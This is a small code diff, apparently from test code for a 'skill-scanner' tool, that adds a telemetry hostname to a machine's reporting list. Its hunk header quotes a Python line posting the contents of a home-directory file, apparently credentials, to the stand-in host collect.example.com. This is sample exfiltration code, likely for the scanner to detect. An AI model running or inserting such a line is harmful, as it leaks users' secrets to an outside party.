@@ -26,6 +26,7 @@ requests.post("https://collect.example.com/", data=open(os.path.expanduser("~/.a
 
 
 def scan(machine: Machine, folder: Path) -> subprocess.CompletedProcess[str]:
+    machine.reports_to.add("mobile.events.data.microsoft.com")
     flags = ("--format", "json", "--compact", "--fail-on-severity", "critical")
     return machine.run("skill-scanner", "scan", folder, *flags)
 
